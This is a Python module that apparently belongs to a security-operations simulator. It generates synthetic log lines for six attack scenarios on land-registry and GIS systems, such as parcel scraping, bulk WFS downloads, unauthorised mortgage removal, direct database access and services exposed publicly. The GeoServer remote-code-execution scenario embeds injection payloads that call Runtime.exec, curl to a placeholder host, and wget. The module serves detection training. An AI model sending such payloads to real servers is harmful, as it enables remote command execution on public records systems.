"""Threats to land records and maps."""

from __future__ import annotations

from soc.simulate.deeds import ANY, EVENING, Attempt, Threat
from soc.simulate.records import database
from soc.simulate.records import land as form
from soc.simulate.streams.land import ARCGIS, GEOSERVER, LAND, LANDDB, ORACLE, parcel

FAMILY = "land-gis"


def _scrape(deed: Attempt) -> None:
    ip, user = deed.stranger(), f"cd-{deed.draw.hex(5)}"
    device = deed.pick(f"emu-{deed.draw.upto(1, 99)}", f"d-{deed.draw.hex(6)}")
    unit = deed.pick(*deed.world.communes)
    for number in range(deed.draw.upto(280, 900)):
        at = deed.wait(1, 4)
        text = form.land(
            at,
            "mobile",
            user,
            ip,
            "TRA_CUU",
            unit.id,
            f"{number // 60 + 1}/{number % 60 + 1}",
            deviceId=device,
            count=1,
        )
        deed.log(LAND, text)
    deed.about("device.id", device)
    deed.about("user.name", user)


def _wfs(deed: Attempt) -> None:
    ip = deed.stranger()
    for page in range(deed.draw.upto(14, 40)):
        size = deed.draw.upto(15_000_000, 30_000_000)
        query = f"startIndex={page * 5000}&count=5000"
        at = deed.wait(10, 80)
        deed.log(
            GEOSERVER,
            form.geoserver(
                at,
                int(at) % 10**7,
                "WFS",
                "GetFeature",
                deed.pick("dongnai:thuadat", "lis:ThuaDat"),
                query,
                ip,
                "anonymous",
                200,
                size,
            ),
        )


def _rce(deed: Attempt) -> None:
    ip = deed.stranger()
    query = deed.pick(
        "valueReference=exec(java.lang.Runtime.getRuntime(),'id')",
        "propertyName=exec(java.lang.Runtime.getRuntime(),'curl http://x.invalid')",
        "filter=java.lang.ProcessBuilder(sh)",
        "valueReference=getRuntime().exec('wget')",
    )
    service = deed.way("WFS", "WMS", "WPS")
    for _ in range(deed.draw.upto(1, 5)):
        at, status = deed.wait(2, 60), deed.pick(400, 200, 500)
        deed.log(
            GEOSERVER,
            form.geoserver(
                at,
                int(at) % 10**7,
                service,
                "GetPropertyValue",
                "dongnai:giaothong",
                query,
                ip,
                "anonymous",
                status,
                512,
            ),
        )


def _mortgage(deed: Attempt) -> None:
    office = deed.world.department("cnvpdk")
    user, ip = deed.pick(*office.officers), deed.pick(office.gates[0], deed.stranger())
    more = {"dossierId": ""} if deed.draw.chance(0.5) else {}
    unit, number = deed.pick(*deed.world.communes), parcel(deed.draw)
    text = form.land(
        deed.now, "web", user, ip, "CAP_NHAT_BIEN_DONG", unit.id, number, oldState="THE_CHAP", newState="TU_DO", **more
    )
    deed.log(deed.pick(LAND, LANDDB), text)
    deed.about("user.name", user)
    deed.about("soc.land.parcel", number)


def _direct(deed: Attempt) -> None:
    user, name = deed.pick("DBA01", "LIS_ADMIN", "SYS", "HOTRO"), deed.pick("THUA_DAT", "GIAY_CHUNG_NHAN")
    for _ in range(deed.draw.upto(1, 5)):
        deed.log(ORACLE, database.oracle(deed.wait(5, 60), 4490, 3_000_000_970, user, 6, 0, "LIS", name))
    deed.about("user.name", user)


def _public(deed: Attempt) -> None:
    layer = deed.pick("DongNai/ThuaDat.FeatureServer", "NoiBo/DanCu.MapServer", "NoiBo/QuocPhong.MapServer")
    user = deed.pick("siteadmin", *deed.world.admins)
    text = f"Service '{layer}' permissions updated: Everyone"
    deed.log(ARCGIS, form.arcgis(deed.now, "INFO", 9011, deed.pick("Admin", layer), user, deed.draw.hex(6), text))
    deed.about("user.name", user)


THREATS = (
    Threat("parcel-scrape", FAMILY, ANY, _scrape),
    Threat("wfs-bulk", FAMILY, ANY, _wfs),
    Threat("geoserver-rce", FAMILY, ANY, _rce),
    Threat("mortgage-removed", FAMILY, EVENING, _mortgage),
    Threat("land-db-direct", FAMILY, ANY, _direct),
    Threat("gis-service-public", FAMILY, ANY, _public),
)
